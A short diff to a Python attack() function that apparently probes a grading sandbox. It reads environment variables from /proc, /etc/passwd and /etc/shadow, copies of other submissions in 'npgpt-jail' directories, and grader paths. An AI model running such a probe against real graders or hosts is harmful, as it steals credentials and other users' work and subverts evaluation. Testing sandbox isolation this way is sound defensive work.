@@ -39,7 +39,7 @@ def attack():
     ppid = os.getppid()
     for path in (f"/proc/{ppid}/environ", "/proc/1/environ", "/etc/passwd", "/etc/shadow"):
         print("ATTACK", path, "->", grab(path)[:400])
-    others = glob.glob("/tmp/*/sub/*.py") + glob.glob("/tmp/*/*.py") + glob.glob("/var/tmp/*/*/*.py")
+    others = glob.glob("/tmp/npgpt-jail-*/sub/*.py") + glob.glob("/var/tmp/npgpt-jail-*/sub/*.py")
     for p in sorted(others)[:50]:  # copies of submissions graded at the same time
         print("ATTACK", p, "->", grab(p)[:200])
     for d in sorted(p for p in grader_paths() if os.path.isdir(p)):
